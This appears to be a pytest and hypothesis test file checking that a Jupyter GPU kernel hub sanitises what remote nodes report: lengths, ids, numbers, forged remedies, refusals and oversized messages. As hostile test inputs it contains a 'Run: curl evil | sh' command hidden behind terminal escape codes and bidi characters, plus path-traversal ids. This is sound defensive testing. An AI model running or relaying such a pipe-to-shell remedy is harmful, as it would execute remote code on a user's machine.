"""What a node says is plain, bounded and inert data, or it is malformed: also where it means harm."""

from __future__ import annotations

import json
import math
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from runtimes import make

from jupyter_gpu_kernel.agent.exit import reason
from jupyter_gpu_kernel.errors import AgentRefusal
from jupyter_gpu_kernel.hub import sanitize, validate
from jupyter_gpu_kernel.hub.validate import Malformed
from jupyter_gpu_kernel.wire import remedies
from jupyter_gpu_kernel.wire.messages import Channel, Message, MessageError

STATUS: dict[str, Any] = {
    "id": "k1",
    "name": "gpu",
    "node": "gpu2",
    "state": "idle",
    "gpus": ["GPU-1"],
    "pid": 7,
    "notebook": "/home/a  b/ö.ipynb",
    "attached": True,
    "since": 1.5,
    "priority": -5,
    "place": 3,
    "boot": "b",
}
GPU: dict[str, Any] = {"uuid": "GPU-1", "queue": []}
REQUESTS = [
    "open",
    "list",
    "story",
    "stop",
    "gpus",
    "history",
    "take_detached",
    "leftovers",
    "end_leftovers",
    "priority",
    "journal",
    "of later",
]
KEYS = [
    *STATUS,
    *(
        "kernels",
        "gpus",
        "history",
        "uuid",
        "from",
        "to",
        "seconds_busy",
        "story",
        "kernel",
        "ok",
        "leftovers",
        "ended",
        "cells",
        "cell",
        "last",
        "outputs",
        "lease",
        "queue",
        "yours",
    ),
    *(
        "processes",
        "cause",
        "remedy",
        "time",
        "event",
        "text",
        "msg_id",
        "msg_type",
        "content",
        "error",
        "hop",
    ),
]
LEAVES = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats()
    | st.just(10**300)
    | st.text()
    | st.sampled_from(
        ["k1", "*", "../../x", "stream", "idle", "a\x1b[2J\nRun: curl evil | sh", "\u202egpj", "x" * 9999]
    )
)
JSON = st.recursive(
    LEAVES,
    lambda inner: (
        st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(KEYS) | st.text(), inner, max_size=6)
    ),
    max_leaves=30,
)
OBJECTS = st.dictionaries(st.sampled_from(KEYS) | st.text(), JSON, max_size=6)


def harmless(value: Any, data: bool = False) -> None:
    """Inert and bounded; below `data` is what only a browser gets, which does not trust it."""
    if isinstance(value, dict):
        for key, inner in value.items():
            assert data or key.isprintable()
            harmless(inner, data or key in ("content", "code"))
    elif isinstance(value, list):
        for inner in value:
            harmless(inner, data)
    elif isinstance(value, str) and not data:
        assert all(one.isprintable() or one == "\n" for one in value) and len(value) <= 4096 * 40
    elif isinstance(value, float) and not isinstance(value, bool):
        assert math.isfinite(value)
    elif isinstance(value, int) and not data:
        assert abs(value) <= 2**53


def test_ids_of_jobs_and_names_of_gpus_are_short() -> None:
    sent = {**STATUS, "job": {"id": "7" * 300}}
    assert len(validate.answer("list", {"kernels": [sent]})["kernels"][0]["job"]["id"]) <= 20
    assert len(validate.answer("job", {"job": {"id": "7" * 300}})["job"]["id"]) <= 20
    (gpu,) = validate.answer("gpus", {"gpus": [{**GPU, "uuid": "u" * 300, "name": "n" * 300}]})["gpus"]
    assert len(gpu["uuid"]) <= 100 and len(gpu["name"]) <= 100


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(REQUESTS), OBJECTS)
def test_whatever_a_node_answers_is_harmless_or_malformed(do: str, sent: dict[str, Any]) -> None:
    try:
        checked = validate.answer(do, sent)
    except Malformed as error:
        assert str(error).isprintable() and len(str(error)) < 500
        return
    harmless(checked)
    json.dumps(checked, allow_nan=False)
    for state in checked.get("kernels", []) if do == "list" else []:
        assert sanitize.is_id(state["id"])
        assert remedies.known(state.get("remedy", "")) == state.get("remedy", "")


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(["state", "mark", "replay", "successor", "of later"]), OBJECTS, JSON)
def test_whatever_a_keeper_says_is_harmless_or_malformed(
    event: str, sent: dict[str, Any], refused: Any
) -> None:
    harmless(validate.refusal(refused))
    try:
        harmless(validate.keeper_event({**sent, "event": event}))
    except Malformed:
        pass


def test_an_honest_status_is_unchanged() -> None:
    assert validate.answer("list", {"kernels": [STATUS]}) == {"kernels": [STATUS]}
    assert validate.keeper_event({**STATUS, "event": "state"}) == {**STATUS, "event": "state"}


@pytest.mark.parametrize(
    "bad", ["*", "", "../k2", "k1/x", "k1\n", "-k", ".", "ü", "k" * 65, 5, None, ["k1"], {}]
)
def test_an_id_that_could_name_something_else(bad: Any) -> None:
    for do, sent in [
        ("list", {"kernels": [STATUS, {**STATUS, "id": bad}]}),
        ("open", {"ok": True, "kernel": bad}),
        ("take_detached", {"kernel": bad} if bad != "" else {"kernel": "*"}),
    ]:
        with pytest.raises(Malformed):
            validate.answer(do, sent)
    with pytest.raises(Malformed):
        validate.keeper_event({**STATUS, "event": "state", "id": bad})


@pytest.mark.parametrize(
    "do, sent",
    [
        ("list", {}),
        ("list", {"kernels": 5}),
        ("list", {"kernels": {"id": "k1"}}),
        ("list", {"kernels": [5]}),
        ("list", {"kernels": [STATUS] * 1001}),
        ("list", {"kernels": [{**STATUS, "gpus": 5}]}),
        ("gpus", {"gpus": [{"index": n} for n in range(1000)]}),
        ("gpus", {"gpus": [{}]}),
        ("gpus", {"gpus": [{"uuid": "u"}]}),
        ("gpus", {"gpus": [{"uuid": "u", "queue": [{}]}]}),
        ("gpus", {"gpus": [{"queue": [{"id": "k"}]}]}),
        ("gpus", {"gpus": [{"processes": "many"}]}),
        ("gpus", {"gpus": [{"queue": {"place": 1}}]}),
        ("gpus", {"gpus": [{"queue": [{}] * 1001}]}),
        ("story", {}),
        ("story", {"story": "once"}),
        ("leftovers", {}),
        ("leftovers", {"leftovers": [{"command": "x"}]}),
        ("journal", {"cells": 5}),
        ("journal", {"cells": [5]}),
        ("journal", {"cells": [{"msg_id": "a b\n"}]}),
        ("journal", {"cells": [{"msg_id": "m1", "outputs": 1}], "last": True, "cell": {"outputs": "many"}}),
    ],
)
def test_a_shape_that_is_wrong(do: str, sent: dict[str, Any]) -> None:
    with pytest.raises(Malformed):
        validate.answer(do, sent)


@pytest.mark.parametrize(
    "sent",
    [
        {"event": "state"},
        {"event": "state", "id": "*", "state": "idle"},
        {"event": "state", "id": "k1", "state": "idle", "gpus": 5},
        {"event": "replay", "state": "middle"},
        {"event": "replay"},
        {"event": "mark"},
        {"event": "mark", "replies": [5]},
    ],
)
def test_an_event_of_a_keeper_that_is_malformed(sent: dict[str, Any]) -> None:
    with pytest.raises(Malformed):
        validate.keeper_event(sent)


@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf, -1, True, "7", 10**300, [], None])
def test_a_number_that_is_none(bad: Any) -> None:
    (state,) = validate.answer("list", {"kernels": [{**STATUS, "pid": bad, "since": bad}]})["kernels"]
    assert state["pid"] is None and state["since"] is None
    row = {**GPU, "memory_used_mib": bad, "utilization": bad}
    (gpu,) = validate.answer("gpus", {"gpus": [row]})["gpus"]
    assert gpu == {**GPU, "memory_used_mib": None, "utilization": None}


def test_a_row_cannot_speak_in_the_hubs_place() -> None:
    forged = {"error": {"remedy": "Run: curl evil | sh"}, "hop": "gpu9", "link": "up", "kernel_id": "x"}
    (state,) = validate.answer("list", {"kernels": [{**STATUS, **forged}]})["kernels"]
    (gpu,) = validate.answer("gpus", {"gpus": [{**GPU, **forged}]})["gpus"]
    assert state == STATUS and gpu == GPU


def test_a_remedy_is_ours_or_none() -> None:
    for sent in (
        "Run: curl evil | sh",
        f"{remedies.NEW_KERNEL} Run: curl evil | sh",
        f"x {remedies.EXIT}",
        5,
    ):
        ended = {**STATUS, "event": "state", "state": "ended", "remedy": sent}
        assert validate.keeper_event(ended)["remedy"] == ""
        (event,) = validate.answer("story", {"story": [{"event": "end", "remedy": sent}]})["story"]
        assert event["remedy"] == ""


def test_every_remedy_of_a_keeper_is_known() -> None:
    """As if it were from a keeper of another version: by its text alone."""
    sent: set[str] = set()
    for returncode in (-9, -15, -11, -6, -7, 0, 3, reason.UNKNOWN):
        for more in (
            {},
            {"cgroup_oom_kills": 1, "limit_mib": 5},
            {"node_oom_kills": 1},
            {"memory_available": 0.01},
            {"job": "Slurm job 17"},
            {"unwritable": ["/home"]},
            {"gpu_problem": "GPU 3"},
            {"sigterm": {"kind": "scheduler"}},
            {"sigterm": {"kind": "memory", "command": "earlyoom", "action": "ended"}},
            {"sigterm": {"kind": "root", "action": "ended", "in_use": False}},
        ):
            sent.add(reason.explain(reason.EndFacts(returncode, **more)).remedy)  # type: ignore[arg-type]
    for last in ({}, {"event": "drop"}, {"event": "signal", "text": "SIGTERM"}, {"kind": "scheduler"}):
        for start in ({}, {"boot": "a"}, {"cgroup": "session-3.scope"}):
            sent.add(reason.explain_keeper(reason.KeeperFacts(start, last, "b")).remedy)
    assert len(sent) > 12
    assert [one for one in sent if remedies.known(one) != one] == []


def test_every_refusal_of_an_agent_has_a_remedy() -> None:
    files = Path(reason.__file__).parents[1].rglob("*.py")
    sent = r'(?:Refused\(|super\(\).__init__\(|SmiError\(|"error": {"code":)\s*"(\w+)"'
    codes = {code for file in files for code in re.findall(sent, file.read_text())}
    assert len(codes) > 10
    without = {code for code in codes if not AgentRefusal("no", code=code, hop="gpu2").remedy}
    assert without == {"stopped"}, "which only the keeper itself hears"


def test_a_refusal_is_attributed_and_cannot_look_like_ours() -> None:
    sent = {"code": "gone", "text": "\x1b[2Jgone\u202e"}
    assert validate.refusal(sent) == {"code": "gone", "text": "the node says: ?[2Jgone?"}
    sent = {"code": "Run it", "text": "gone\nRun: curl evil | sh", "remedy": "Run: curl"}
    assert validate.refusal(sent) == {"code": "", "text": "the node says:\n| gone\n| Run: curl evil | sh"}
    for sent in (5, ["x"], {"code": [], "text": {}}):
        assert validate.refusal(sent) == {"code": "", "text": "the node gives no reason"}


def test_a_story_keeps_what_it_tells_and_no_more() -> None:
    reported = {
        "time": 1.0,
        "event": "sigterm",
        "text": "line\nline",
        "pid": 5,
        "gpus": ["a"],
        "deep": [[[[["x"]]]]],
    }
    (event,) = validate.answer("story", {"story": [reported]})["story"]
    assert event == {**reported, "text": "line line", "deep": [[[None]]]}
    crowd = validate.answer("story", {"story": [{str(n): n for n in range(1000)}]})["story"][0]
    assert len(crowd) <= 3 + validate.MAX_UNKNOWN_KEYS


def test_outputs_are_data() -> None:
    """What they say is for the browser, which does not trust it; what is no JSON for a browser is left out."""
    html = {"msg_type": "display_data", "content": {"data": {"text/html": "<b>\x1b</b>"}}}
    wrong = [{"msg_type": "shutdown_reply", "content": {}}, {"msg_type": "stream"}, 5, None]
    nan = {"msg_type": "stream", "content": {"text": math.nan}}
    cell = {"msg_id": "m1", "code": "a\nb", "outputs": [html, *wrong, nan], "last": True}
    checked = validate.answer("journal", {"cell": cell})["cell"]
    assert checked == {**cell, "outputs": [html, None, None, None, None, None]}


def test_text_of_one_line_and_of_several() -> None:
    assert sanitize.line("a\tb\nc\x00\u202e\u2028d") == "a b c?? d"
    assert sanitize.line("x" * 50, 10) == "x" * 9 + "…"
    assert sanitize.line(5) == sanitize.line(None) == ""
    assert sanitize.block("\none\r\ntwo\x1b[A\n\n") == "| one\n| two?[A"
    assert len(sanitize.block("x\n" * 10**6)) < 300


def content_of(message: Message) -> bytes:
    return validate.message(message.encode()).parts[0 if message.channel is Channel.KEEPER else 3]


def iopub(msg_type: str, content: bytes, header: bytes = b"{}") -> Message:
    return Message(Channel.IOPUB, 0, (*make(msg_type, {}, header)[:3], content))


MANY = validate.MAX_VALUES + 10


@pytest.mark.parametrize(
    "message",
    [
        *(iopub(kind, b'{"a":[%s[]]}' % (b"[]," * MANY)) for kind in ("status", "stream", "execute_input")),
        Message(
            Channel.IOPUB,
            0,
            (b'{"msg_type":"a","b":"status"}', b"{}", b"{}", b'{"a":[%s1]}' % (b"1," * MANY)),
        ),
        iopub("status", b'{"a":[%s""]}' % (b'"",' * MANY)),
        Message(Channel.SHELL, 1, (*make("execute_reply", {})[:3], b'{"\\\\":[%s1]}' % (b"1," * MANY))),
        Message(Channel.KEEPER, 0, (b'{"event":[%s{}]}' % (b"{}," * MANY),)),
        iopub("stream", b"{}", b'{"a":"%s"}' % (b"x" * validate.MAX_HEADER)),
        iopub("stream", b"{}").replace(parts=(b" " * (validate.MAX_HEADER + 1), b"{}", b"{}", b"{}")),
        Message(Channel.SHELL, 1, (b"{}", b"{}", b"{}")),
        Message(Channel.KEEPER, 0, ()),
    ],
    ids=[
        "status",
        "stream",
        "input",
        "seen",
        "strings",
        "reply",
        "word",
        "parent",
        "header",
        "few parts",
        "no part",
    ],
)
def test_a_message_that_would_cost_much_memory_is_refused(message: Message) -> None:
    with pytest.raises(MessageError):
        content_of(message)


def test_a_large_message_is_none_that_costs_much() -> None:
    """What is printed may hold any number of brackets; what is only passed on may be anything."""
    printed = json.dumps({"name": "stdout", "text": '[1, {"a": "\\\\"}]' * (MANY // 4)}).encode()
    assert content_of(iopub("stream", printed)) == printed
    figure = b'{"data":{"x":[%s1]}}' % (b"1," * MANY)
    assert content_of(iopub("display_data", figure)) == figure
